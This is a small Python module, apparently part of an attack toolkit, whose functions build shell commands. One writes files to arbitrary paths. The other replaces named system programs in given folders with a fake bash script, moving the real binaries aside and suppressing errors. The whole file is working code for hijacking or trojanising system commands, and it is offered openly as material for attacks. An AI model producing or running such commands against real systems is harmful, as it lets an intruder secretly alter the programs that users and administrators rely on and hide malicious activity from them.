"""Pieces of shell that attacks are made of.  Pure."""

from __future__ import annotations


def write_files(text: str, *paths: str, mode: str = "644") -> str:
    """Return commands that write the same text to each path, and create the folders above it."""
    return "".join(
        f"mkdir -p $(dirname {path})\ncat > {path} <<'EOT'\n{text}\nEOT\nchmod {mode} {path}\n" for path in paths
    )


def replace_programs(programs: str, folders: str, text: str) -> str:
    """Return commands that put a bash script in the place of programs, also where there were none."""
    return (
        "mkdir -p /var/old; cp /bin/bash /var/old/bash\n"
        + write_files(f"#!/var/old/bash\n{text}", "/var/old/fake", mode="755")
        + f"for d in {folders}; do mkdir -p $d; for f in {programs}; do mv -f $d/$f /var/old/$f.old; "
        "ln -f /var/old/fake $d/$f || cat /var/old/fake > $d/$f; done; done 2>/dev/null"
    )
